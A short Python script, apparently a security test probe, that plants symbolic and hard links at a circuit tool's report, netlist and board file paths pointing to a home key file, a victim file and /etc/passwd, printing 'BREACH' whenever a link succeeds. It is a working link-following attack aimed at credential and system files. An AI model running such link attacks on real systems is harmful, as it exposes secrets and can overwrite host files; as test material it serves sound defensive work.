"""Leaves links to files of the host under the names that process 1 reads.

end: completed | exception
"""

import os

import targets

left = os.path.join(os.environ["HOME"], ".circuitron")
for name in (f"{left}/report.json", f"{left}/netlist.net", "board.net", "board.svg"):
    for make in (os.symlink, os.link):
        for victim in (targets.HOME_KEY, targets.VICTIM, "/etc/passwd"):
            try:
                if os.path.lexists(name):
                    os.remove(name)
                make(victim, name)
                print("BREACH", name)
            except OSError:
                pass
print("tried")
